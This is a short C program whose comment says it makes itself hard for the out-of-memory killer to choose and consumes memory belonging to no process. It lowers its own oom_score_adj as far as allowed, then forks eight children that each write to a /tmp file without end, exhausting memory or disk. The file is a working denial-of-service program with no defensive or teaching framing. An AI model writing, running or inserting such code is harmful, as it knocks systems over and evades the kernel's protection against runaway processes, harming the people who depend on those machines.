/* Makes itself no better a victim than PID 1, and takes memory that belongs to no process. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
  for (int score = -1000; score < 1000; score += 100) {
    char text[8];
    int file = open("/proc/self/oom_score_adj", O_WRONLY);
    int done = write(file, text, (size_t)sprintf(text, "%d", score)) > 0;
    close(file);
    if (done) break;
  }
  static char block[1 << 16];
  memset(block, 1, sizeof block);
  for (int i = 0; i < 8; i++) {
    if (fork() > 0) continue;
    char name[] = "/tmp/0";
    name[5] += (char)i;
    int file = open(name, O_CREAT | O_WRONLY, 0600);
    for (;;) write(file, block, sizeof block);
  }
  while (wait(NULL) > 0);
  return 1;
}
